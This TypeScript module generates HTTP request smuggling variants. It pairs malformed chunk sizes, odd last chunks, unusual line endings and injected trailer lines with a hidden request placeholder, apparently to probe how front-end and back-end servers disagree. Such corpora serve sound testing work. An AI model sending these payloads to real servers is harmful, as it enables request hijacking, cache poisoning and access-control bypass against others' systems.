/** Chunked bodies whose chunks, last chunk or trailers may end elsewhere to another reader; forms as in smuggling-tricks.ts. */
import type { Trick } from './smuggling-tricks.ts'

const CHUNKED = 'Transfer-Encoding: chunked'
const LAST = '0\r\n\r\n'

const CHUNK_SIZES = [
  ...[
    '0x$S',
    '+$S',
    '-$S',
    ' $S',
    '\t$S',
    '$S ',
    '$S\t',
    '0$S',
    '0000000000000$S',
    '0000000000000000$S',
    '$S.',
    '$Sg',
  ],
  ...[
    '$S;a',
    '$S;a=b',
    '$S;a="b;c"',
    '$S; a',
    '$S ;a',
    '$S;',
    '$S;=',
    '$S;a="\\""',
    '$S;a="',
    '$S;a\0',
    '$S;a\rb',
  ],
  ...[
    '$S;a\nb',
    '$S;a="\r\n"',
    '$S;a="\n"',
    '$S\0',
    '\0$S',
    '"$S"',
    '$S,$S',
    '$S $S',
    '1e1',
    '10000000000000000',
    '',
  ],
  ...[
    '100000000',
    'ffffffffffffffff',
    'fffffffffffffffe',
    '7fffffffffffffff',
    '8000000000000000',
    '_$S',
    '\x0b$S',
  ],
]

const LAST_SIZES = [
  ...[
    '00',
    '000000000000000',
    '0000000000000000',
    '0;a',
    '0;a="b"',
    '0;',
    '0x0',
    '+0',
    '-0',
    ' 0',
    '0 ',
    '0\t',
    '0\0',
  ],
  ...[
    '',
    '0;a\n',
    '0\n',
    '0\r',
    '0\r\r',
    '0\n\r',
    '0;a\r',
    '10000000000000000',
    '0g',
    '0,',
    '"0"',
    '0;a="\r\n\r\n"',
  ],
]

const LINE_ENDS = [
  '\n',
  '\r',
  '',
  '\r\r\n',
  '\n\n',
  '\n\r',
  ' \r\n',
  '\t\r\n',
  'x\r\n',
  '\0\r\n',
  '\r\n\r\n',
  '\r\n\n',
  '\r\0\n',
]

const TRAILERS = [
  ...[
    'X: y',
    'Content-Length: 5',
    'Transfer-Encoding: chunked',
    'Host: b',
    'Connection: close',
    'Authorization: x',
  ],
  ...[
    '$M $P HTTP/1.1',
    ' X: y',
    'X : y',
    'X',
    ': y',
    'X: y\nZ: w',
    'X: y\rZ: w',
    'X: \0',
    'X\0: y',
    'X: y\r\n\tz',
  ],
  ...['Upgrade: h2c', 'Cookie: a=b', 'X: GET $P HTTP/1.1', 'Content-Length: 0\r\nX: y'],
]

export const CHUNKS: readonly Trick[] = [
  {
    name: 'chunk sizes',
    forms: CHUNK_SIZES.map((size) => ({ lines: [CHUNKED], body: `${size}\r\n$H\r\n${LAST}` })),
  },
  {
    name: 'last chunks',
    forms: LAST_SIZES.map((size) => ({ lines: [CHUNKED], body: `5\r\nhello\r\n${size}\r\n\r\n$H` })),
  },
  {
    name: 'ends of a chunk size',
    forms: LINE_ENDS.map((end) => ({ lines: [CHUNKED], body: `$S${end}$H\r\n${LAST}` })),
  },
  {
    name: 'ends of a chunk',
    forms: LINE_ENDS.map((end) => ({ lines: [CHUNKED], body: `5\r\nhello${end}${LAST}$H` })),
  },
  {
    name: 'ends of a chunked body',
    forms: LINE_ENDS.map((end) => ({ lines: [CHUNKED], body: `5\r\nhello\r\n0\r\n${end}$H` })),
  },
  {
    name: 'trailers',
    forms: TRAILERS.map((line) => ({ lines: [CHUNKED], body: `5\r\nhello\r\n0\r\n${line}\r\n\r\n$H` })),
  },
]
